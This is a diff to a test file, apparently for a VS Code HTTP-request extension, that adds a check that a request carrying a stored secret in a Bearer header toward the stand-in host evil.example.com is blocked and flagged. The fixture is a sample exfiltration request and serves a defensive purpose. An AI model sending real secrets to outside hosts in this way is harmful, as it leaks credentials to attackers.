@@ -137,6 +137,7 @@ describe('a malicious request document', () => {
         ...['###', 'GET {{v0}}/hserve/v1/content/group/'],
         ...['###', 'GET https://{{groups.response.body.meta.total_count}}.example.com/'],
         ...['###', 'GET {{$prompt where?}}'],
+        ...['###', 'GET {{v0}}/', 'Authorization: Bearer {{$secret evil}}'],
       ]);
       await sendRequest(document);
       const [name] = service().shop.environments.map(environment => environment.name);
@@ -147,6 +148,7 @@ describe('a malicious request document', () => {
           'Send to evil.example.com without credentials',
           'host known only when it is sent',
           'host known only when it is sent',
+          '$(warning) Cannot be sent: a secret would go to evil.example.com',
         ],
       );
       const everything = new vscode.Range(0, 0, document.lineCount, 0);
@@ -157,6 +159,7 @@ describe('a malicious request document', () => {
       );
       assert.equal(hints[1]?.label, '→ evil.example.com, without credentials');
       assert.equal(hints[2]?.label, '→ host known only when it is sent');
+      assert.equal(hints[4]?.label, '→ cannot be sent: a secret would go to evil.example.com');
     });
 
     it('sends a request again only to its original target, not to another host with its ClientID', async () => {
